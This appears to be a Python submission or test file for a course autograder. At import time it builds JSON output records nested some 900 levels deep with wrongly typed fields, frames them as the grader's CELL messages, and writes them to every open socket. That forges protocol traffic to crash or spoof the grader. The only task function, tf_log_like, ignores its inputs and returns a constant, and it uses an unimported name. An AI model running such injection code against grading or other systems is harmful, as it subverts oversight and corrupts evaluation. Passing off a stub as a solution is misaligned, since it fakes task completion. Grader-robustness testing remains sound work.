"""Reports outputs whose parts have the wrong types, a thousand deep, and keys that mean something."""

import json
import os
import stat

from course_lib.protocol import wire

_deep = {"output_type": "error", "ename": None, "evalue": None, "traceback": None}
for _key in ("ename", "evalue", "traceback", "name", "text", "data", "metadata"):
    _inner = []
    for _ in range(900):
        _inner = [_inner]
    _deep[_key] = _inner
_body = json.dumps({"id": ["x"], "status": "ok", "outputs": [_deep] * 50}).encode()
_report = wire.frame(wire.CELL, _body)
for _descriptor in range(3, 256):
    try:
        if stat.S_ISSOCK(os.fstat(_descriptor).st_mode):
            os.write(_descriptor, _report)
    except OSError:
        pass


def tf_log_like(x, y, m, b, s):
    return tf.constant(0.0, tf.float64)
